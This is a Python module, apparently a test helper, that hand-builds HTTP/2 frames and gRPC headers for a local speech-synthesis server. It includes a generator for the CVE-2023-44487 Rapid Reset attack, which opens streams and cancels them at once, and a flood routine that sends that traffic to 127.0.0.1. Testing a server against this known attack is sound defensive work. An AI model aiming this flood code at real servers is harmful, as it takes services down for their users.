"""HTTP/2 by hand, for clients that do what no library would: frames (RFC 9113) and unpacked headers.

What must not live here: gRPC's library, a server. Standard library only, so that a script may load it fast.
"""

from __future__ import annotations

import socket
from contextlib import suppress

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL, ENHANCE_YOUR_CALM = b"\0\0\0\x08", b"\0\0\0\x0b"
SYNTHESIZE = "/rhapsode.tts.v1.SpeechSynthesisService/Synthesize"
LARGE = (2**31 - 1 - 65_535).to_bytes(4, "big")
"""As much as a window can still be opened by, after the 65,535 bytes that it begins with."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """RFC 9113, 4.1."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header field as HPACK writes it where nothing is indexed (RFC 7541, 6.2.2); short ones only."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(path: str = SYNTHESIZE, **more: str) -> bytes:
    """The header block of a gRPC call."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
        **{name.replace("_", "-"): value for name, value in more.items()},
    }
    return b"".join(literal(name.encode(), value.encode()) for name, value in fields.items())


def begin(stream: int, request: bytes, path: str = SYNTHESIZE, **more: str) -> bytes:
    """HEADERS and DATA of a call with one message."""
    message = b"\0" + len(request).to_bytes(4, "big") + request
    return frame(HEADERS, END_HEADERS, stream, headers(path, **more)) + frame(
        DATA, END_STREAM, stream, message
    )


def connected(port: int, settings: bytes = b"") -> socket.socket:
    """A connection to 127.0.0.1 that has said hello and opened its window wide."""
    raw = socket.create_connection(("127.0.0.1", port))
    raw.sendall(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(WINDOW_UPDATE, 0, 0, LARGE))
    return raw


def opened_and_reset(count: int) -> bytes:
    """CVE-2023-44487."""
    head = headers()
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1, 2 * count, 2)
    )


def flood(port: int, data: bytes) -> None:
    """Send it on one connection, reading away what comes, until all is sent or the server has had enough."""
    with suppress(OSError), socket.create_connection(("127.0.0.1", port)) as raw:
        raw.sendall(PREFACE + frame(SETTINGS, 0, 0))
        raw.settimeout(10)
        for at in range(0, len(data), 1 << 14):
            raw.sendall(data[at : at + (1 << 14)])
            raw.setblocking(False)
            with suppress(BlockingIOError):
                while raw.recv(1 << 16):
                    pass
            raw.settimeout(10)
